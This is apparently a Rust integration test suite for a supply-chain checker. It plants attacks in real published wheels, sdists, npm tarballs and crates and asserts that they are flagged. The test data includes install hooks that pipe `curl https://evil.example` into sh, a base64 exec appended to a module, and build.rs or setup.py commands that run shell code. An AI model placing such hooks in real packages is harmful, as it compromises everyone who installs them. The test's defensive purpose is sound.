//! Attacks injected into real published artifacts of the release corpus
//! (`../shared/corpus`): each must be flagged high by `chainlock diff artifact`, exit 1.
//! Build output with agreeing rebuilds (attestations and a policy) passes with exit 0.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::path::{Path, PathBuf};

use chainlock_attest::dsse::{self, PAYLOAD_TYPE};
use chainlock_attest::statement::{RebuildFacts, Statement};
use chainlock_attest::BuilderKey;
use chainlock_protocol::keys::SecretKey;
use chainlock_protocol::policy::Policy;
use serde_json::Value;

use crate::util::{run, workspace_root};

fn corpus() -> PathBuf {
    let dir = workspace_root().join("../shared/corpus");
    assert!(
        dir.join("README.md").is_file(),
        "the release corpus is missing at {}: put the shared/ folder beside the repository (as CI does)",
        dir.display()
    );
    dir
}

/// The commit of `tag` in a corpus package (from its entry.json).
fn commit(package: &str, tag: &str) -> String {
    let entry: Value =
        serde_json::from_slice(&std::fs::read(corpus().join(package).join("entry.json")).unwrap())
            .unwrap();
    entry["tags"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["tag"] == tag)
        .unwrap()["upstream_commit"]
        .as_str()
        .unwrap()
        .to_owned()
}

/// What to do to an archive's entries: replace or add (`Some`), remove (`None`).
type Edits = BTreeMap<String, Option<Vec<u8>>>;

/// The entries of a gzip'd tar, in order, with their modes.
fn read_tgz(path: &Path) -> Vec<(String, u32, Vec<u8>)> {
    let gz = flate2::read::GzDecoder::new(std::fs::File::open(path).unwrap());
    let mut archive = tar::Archive::new(gz);
    let mut out = Vec::new();
    for entry in archive.entries().unwrap() {
        let mut entry = entry.unwrap();
        let name = entry.path().unwrap().to_string_lossy().into_owned();
        let mode = entry.header().mode().unwrap();
        let mut data = Vec::new();
        entry.read_to_end(&mut data).unwrap();
        out.push((name, mode, data));
    }
    out
}

fn write_tgz(path: &Path, entries: &[(String, u32, Vec<u8>)]) {
    let gz = flate2::write::GzEncoder::new(
        std::fs::File::create(path).unwrap(),
        flate2::Compression::default(),
    );
    let mut builder = tar::Builder::new(gz);
    for (name, mode, data) in entries {
        let mut header = tar::Header::new_ustar();
        header.set_size(data.len() as u64);
        header.set_mode(*mode);
        header.set_mtime(499_162_500);
        header.set_entry_type(tar::EntryType::Regular);
        builder.append_data(&mut header, name, &data[..]).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap();
}

/// A copy of a corpus tar.gz (npm, sdist, crate) with `edits` applied.
fn edit_tgz(original: &Path, out: &Path, edits: &Edits) {
    let mut entries = read_tgz(original);
    for (name, edit) in edits {
        match (entries.iter().position(|(n, _, _)| n == name), edit) {
            (Some(i), Some(data)) => entries[i].2 = data.clone(),
            (Some(i), None) => {
                entries.remove(i);
            }
            (None, Some(data)) => entries.push((name.clone(), 0o644, data.clone())),
            (None, None) => panic!("{name} is not in {}", original.display()),
        }
    }
    write_tgz(out, &entries);
}

/// A copy of a corpus wheel with `edits` applied (RECORD left as published).
fn edit_zip(original: &Path, out: &Path, edits: &Edits) {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(original).unwrap()).unwrap();
    let mut writer = zip::ZipWriter::new(std::fs::File::create(out).unwrap());
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for i in 0..zip.len() {
        let file = zip.by_index_raw(i).unwrap();
        let name = file.name().to_owned();
        match edits.get(&name) {
            None => writer.raw_copy_file(file).unwrap(),
            Some(Some(data)) => {
                drop(file);
                writer.start_file(name, options).unwrap();
                writer.write_all(data).unwrap();
            }
            Some(None) => {}
        }
    }
    for (name, edit) in edits {
        if zip.by_name(name).is_err() {
            writer.start_file(name, options).unwrap();
            writer.write_all(edit.as_ref().unwrap()).unwrap();
        }
    }
    writer.finish().unwrap();
}

fn entry_of_tgz(original: &Path, name: &str) -> Vec<u8> {
    read_tgz(original)
        .into_iter()
        .find(|(n, _, _)| n == name)
        .unwrap_or_else(|| panic!("{name} not in {}", original.display()))
        .2
}

fn entry_of_zip(original: &Path, name: &str) -> Vec<u8> {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(original).unwrap()).unwrap();
    let mut data = Vec::new();
    zip.by_name(name).unwrap().read_to_end(&mut data).unwrap();
    data
}

/// Runs `diff artifact --json` and returns the exit code and the report.
fn diff_artifact(
    package: &str,
    tag: &str,
    artifact: &Path,
    extra: &[&str],
) -> (Option<i32>, Value) {
    let repo = corpus().join(package).join("source.git");
    let mut args = vec![
        "diff",
        "artifact",
        "--repo",
        repo.to_str().unwrap(),
        "--commit",
        tag,
        "--artifact",
        artifact.to_str().unwrap(),
        "--json",
    ];
    args.extend_from_slice(extra);
    let out = run(&args);
    let stdout = String::from_utf8_lossy(&out.stdout);
    let value = serde_json::from_str(&stdout).unwrap_or_else(|e| {
        panic!(
            "{e}: {stdout}\nstderr: {}",
            String::from_utf8_lossy(&out.stderr)
        )
    });
    (out.status.code(), value)
}

/// Asserts exit 1 and a high flag of `rule` on a file whose path contains `file`.
fn assert_high(attack: &str, result: &(Option<i32>, Value), rule: &str, file: &str) {
    assert_high_saying(attack, result, rule, file, "");
}

/// [`assert_high`] for a flag whose message contains `says`.
fn assert_high_saying(
    attack: &str,
    (code, report): &(Option<i32>, Value),
    rule: &str,
    file: &str,
    says: &str,
) {
    assert_eq!(*code, Some(1), "{attack}: {report:#}");
    let flags = report["flags"].as_array().unwrap();
    assert!(
        flags.iter().any(|f| f["severity"] == "high"
            && f["rule"] == rule
            && f["file"].as_str().unwrap().contains(file)
            && f["message"].as_str().unwrap().contains(says)),
        "{attack}: no high {rule} flag on {file}: {flags:#?}"
    );
}

fn edits(list: &[(&str, Option<&[u8]>)]) -> Edits {
    list.iter()
        .map(|(n, d)| ((*n).to_owned(), d.map(<[u8]>::to_vec)))
        .collect()
}

#[test]
fn python_attacks_on_real_wheels_and_sdists_are_high() {
    let dir = tempfile::tempdir().unwrap();
    let click = corpus().join("pypi-click/artifacts/click-8.5.0-py3-none-any.whl");
    let werkzeug = corpus().join("pypi-werkzeug/artifacts/werkzeug-3.1.8-py3-none-any.whl");
    let pth: &[u8] = b"import os; os.system('curl https://evil.example/x | sh')\n";
    let cases: Vec<(&str, &Path, Edits, &str, &str)> = vec![
        (
            ".pth at the top of a wheel",
            &click,
            edits(&[("evil.pth", Some(pth))]),
            "install-hook",
            "evil.pth",
        ),
        (
            ".pth under .data/purelib",
            &click,
            edits(&[("click-8.5.0.data/purelib/evil.pth", Some(pth))]),
            "install-hook",
            "purelib/evil.pth",
        ),
        (
            "sitecustomize.py in a wheel",
            &click,
            edits(&[("sitecustomize.py", Some(b"import os\n"))]),
            "install-hook",
            "sitecustomize.py",
        ),
        (
            "a file not in RECORD",
            &werkzeug,
            edits(&[("werkzeug/_extra.py", Some(b"X = 1\n"))]),
            "artifact-modified",
            "werkzeug/_extra.py",
        ),
        (
            "Requires-Dist added",
            &werkzeug,
            {
                let meta =
                    String::from_utf8(entry_of_zip(&werkzeug, "werkzeug-3.1.8.dist-info/METADATA"))
                        .unwrap();
                let meta =
                    meta.replacen("Requires-Dist:", "Requires-Dist: readme\nRequires-Dist:", 1);
                edits(&[("werkzeug-3.1.8.dist-info/METADATA", Some(meta.as_bytes()))])
            },
            "artifact-modified",
            "METADATA",
        ),
        (
            "exec(base64...) appended to an existing module",
            &click,
            {
                let mut module = entry_of_zip(&click, "click/utils.py");
                module.extend_from_slice(
                    b"\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
                );
                edits(&[("click/utils.py", Some(&module))])
            },
            "dynamic-eval",
            "click/utils.py",
        ),
    ];
    for (n, (attack, original, edits, rule, file)) in cases.into_iter().enumerate() {
        let out = dir.path().join(format!(
            "{n}-{}",
            original.file_name().unwrap().to_string_lossy()
        ));
        edit_zip(original, &out, &edits);
        let (package, tag) = if *original == click {
            ("pypi-click", "8.5.0")
        } else {
            ("pypi-werkzeug", "3.1.8")
        };
        let result = diff_artifact(package, tag, &out, &[]);
        let says = match attack {
            "Requires-Dist added" => "`readme`",
            "a file not in RECORD" => "not listed in",
            "exec(base64...) appended to an existing module" => "decoded data",
            _ => "",
        };
        assert_high_saying(attack, &result, rule, file, says);
    }
    // setup.py with a custom command class added to a real sdist.
    let sdist = corpus().join("pypi-click/artifacts/click-8.5.0.tar.gz");
    let out = dir.path().join("click-8.5.0.tar.gz");
    let setup: &[u8] = b"from setuptools import setup\nfrom setuptools.command.install import install\nclass Run(install):\n    def run(self):\n        import os; os.system('id')\nsetup(cmdclass={'install': Run})\n";
    edit_tgz(
        &sdist,
        &out,
        &edits(&[("click-8.5.0/setup.py", Some(setup))]),
    );
    assert_high(
        "setup.py with a command class",
        &diff_artifact("pypi-click", "8.5.0", &out, &[]),
        "install-hook",
        "setup.py",
    );
}

#[test]
fn npm_and_crate_attacks_on_real_artifacts_are_high() {
    let dir = tempfile::tempdir().unwrap();
    let semver = corpus().join("npm-semver/artifacts/semver-7.8.5.tgz");
    let manifest: Value =
        serde_json::from_slice(&entry_of_tgz(&semver, "package/package.json")).unwrap();
    let with = |edit: &dyn Fn(&mut Value)| {
        let mut m = manifest.clone();
        edit(&mut m);
        serde_json::to_vec_pretty(&m).unwrap()
    };
    let postinstall = with(&|m| {
        m["scripts"]["postinstall"] =
            "node -e \"require('https').get('https://evil.example')\"".into()
    });
    let preinstall =
        with(&|m| m["scripts"]["preinstall"] = "curl https://evil.example | sh".into());
    let bin = with(&|m| m["bin"]["semver-helper"] = "bin/helper.js".into());
    let mut parse = entry_of_tgz(&semver, "package/functions/parse.js");
    parse.extend_from_slice(format!("\n;var _p=\"{}\";\n", "QUJD".repeat(400)).as_bytes());
    let cases: Vec<(&str, Edits, &str, &str)> = vec![
        (
            "postinstall added",
            edits(&[("package/package.json", Some(&postinstall))]),
            "install-hook",
            "package.json",
        ),
        (
            "preinstall added",
            edits(&[("package/package.json", Some(&preinstall))]),
            "install-hook",
            "package.json",
        ),
        (
            "bin pointing to a new file",
            edits(&[
                ("package/package.json", Some(&bin)),
                (
                    "package/bin/helper.js",
                    Some(b"#!/usr/bin/env node\nrequire('child_process').execSync('id')\n"),
                ),
            ]),
            "artifact-only-file",
            "package/bin/helper.js",
        ),
        (
            "long one-line payload appended",
            edits(&[("package/functions/parse.js", Some(&parse))]),
            "artifact-modified",
            "functions/parse.js",
        ),
        (
            "binding.gyp added",
            edits(&[(
                "package/binding.gyp",
                Some(b"{'targets': [{'target_name': 'x', 'sources': ['x.cc']}]}\n"),
            )]),
            "install-hook",
            "binding.gyp",
        ),
    ];
    for (n, (attack, edits, rule, file)) in cases.into_iter().enumerate() {
        let out = dir.path().join(format!("{n}-semver-7.8.5.tgz"));
        edit_tgz(&semver, &out, &edits);
        assert_high(
            attack,
            &diff_artifact("npm-semver", "v7.8.5", &out, &[]),
            rule,
            file,
        );
    }
    let either = corpus().join("crates-either/artifacts/either-1.17.0.crate");
    let out = dir.path().join("either-1.17.0.crate");
    edit_tgz(
        &either,
        &out,
        &edits(&[(
            "either-1.17.0/build.rs",
            Some(b"fn main() { std::process::Command::new(\"id\").status().unwrap(); }\n"),
        )]),
    );
    assert_high(
        "build.rs added to a crate",
        &diff_artifact("crates-either", "1.17.0", &out, &[]),
        "install-hook",
        "build.rs",
    );
    let normalized = String::from_utf8(entry_of_tgz(&either, "either-1.17.0/Cargo.toml")).unwrap();
    let normalized = normalized.replacen("[package]\n", "[package]\nbuild = \"src/gen.rs\"\n", 1);
    let out = dir.path().join("either-1.17.0-build.crate");
    edit_tgz(
        &either,
        &out,
        &edits(&[("either-1.17.0/Cargo.toml", Some(normalized.as_bytes()))]),
    );
    assert_high(
        "build = added to a crate's manifest",
        &diff_artifact("crates-either", "1.17.0", &out, &[]),
        "artifact-modified",
        "Cargo.toml",
    );
}

/// A policy trusting three builders (two must agree) and envelopes by the first `n` of them
/// attesting `sha256` for `commit`, written into `dir`.
fn attestations(dir: &Path, commit: &str, sha256: &str, n: usize) -> (PathBuf, Vec<PathBuf>) {
    let keys: Vec<BuilderKey> = (0..3u8)
        .map(|i| BuilderKey::from_seed(&[0xd0 + i; 32]))
        .collect();
    let policy = Policy::new(
        (1..=3u8)
            .map(|i| SecretKey::from_bytes(&[i; 32]).unwrap().public_key())
            .collect(),
        2,
        keys.iter().map(|k| k.public_key().to_hex()).collect(),
        2,
        86_400,
    )
    .unwrap();
    let policy_path = dir.join("policy.json");
    std::fs::write(&policy_path, serde_json::to_vec_pretty(&policy).unwrap()).unwrap();
    let envelopes = keys
        .iter()
        .take(n)
        .enumerate()
        .map(|(i, key)| {
            let facts = RebuildFacts {
                repository: "https://github.com/sindresorhus/p-queue.git".to_owned(),
                commit: commit.to_owned(),
                command: "npm ci && npm pack".to_owned(),
                artifact_glob: "*.tgz".to_owned(),
                artifact_name: "p-queue-9.3.3.tgz".to_owned(),
                artifact_sha256: hex::decode(sha256).unwrap().try_into().unwrap(),
                source_date_epoch: 1_700_000_000,
            };
            let payload = Statement::for_rebuild(&facts, &key.public_key())
                .to_payload()
                .unwrap();
            let envelope = dsse::sign(PAYLOAD_TYPE, &payload, key);
            let path = dir.join(format!("builder-{i}.json"));
            std::fs::write(&path, dsse::to_json_pretty(&envelope).unwrap()).unwrap();
            path
        })
        .collect();
    (policy_path, envelopes)
}

#[test]
fn build_output_passes_only_with_agreeing_rebuilds_of_this_artifact() {
    let dir = tempfile::tempdir().unwrap();
    let published = corpus().join("npm-p-queue/artifacts/p-queue-9.3.3.tgz");
    let commit = commit("npm-p-queue", "v9.3.3");
    let sha = hex::encode(chainlock_attest::rebuild::sha256_file(&published).unwrap());
    // Without rebuilds: one high finding for dist/, exit 1.
    let (code, report) = diff_artifact("npm-p-queue", "v9.3.3", &published, &[]);
    assert_eq!(code, Some(1));
    let high: Vec<&Value> = report["flags"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] == "high")
        .collect();
    assert_eq!(high.len(), 1, "{high:#?}");
    assert_eq!(high[0]["file"], "package/dist/");
    // Two of two required builders reproduced it: covered, exit 0.
    let (policy, envelopes) = attestations(dir.path(), &commit, &sha, 2);
    let mut args = vec!["--policy", policy.to_str().unwrap(), "--attestations"];
    args.extend(envelopes.iter().map(|p| p.to_str().unwrap()));
    let (code, report) = diff_artifact("npm-p-queue", "v9.3.3", &published, &args);
    assert_eq!(code, Some(0), "{report:#}");
    assert_eq!(
        report["build_output"][0]["reproduced_by"]
            .as_array()
            .unwrap()
            .len(),
        2
    );
    // A modified file in dist/ with the same attestations: not what they rebuilt, exit 1.
    let tampered = dir.path().join("p-queue-9.3.3.tgz");
    let mut index = entry_of_tgz(&published, "package/dist/index.js");
    index.extend_from_slice(b"\nimport('node:child_process').then(c => c.execSync('id'));\n");
    edit_tgz(
        &published,
        &tampered,
        &edits(&[("package/dist/index.js", Some(&index))]),
    );
    let result = diff_artifact("npm-p-queue", "v9.3.3", &tampered, &args);
    assert_high(
        "modified file in dist/ (attested original)",
        &result,
        "artifact-only-file",
        "package/dist/",
    );
    let result = diff_artifact("npm-p-queue", "v9.3.3", &tampered, &[]);
    assert_high(
        "modified file in dist/ (no rebuild)",
        &result,
        "artifact-only-file",
        "package/dist/",
    );
    // One builder of the two required: not covered.
    let (policy, envelopes) = attestations(dir.path(), &commit, &sha, 1);
    let args = [
        "--policy",
        policy.to_str().unwrap(),
        "--attestations",
        envelopes[0].to_str().unwrap(),
    ];
    let (code, _) = diff_artifact("npm-p-queue", "v9.3.3", &published, &args);
    assert_eq!(code, Some(1));
}
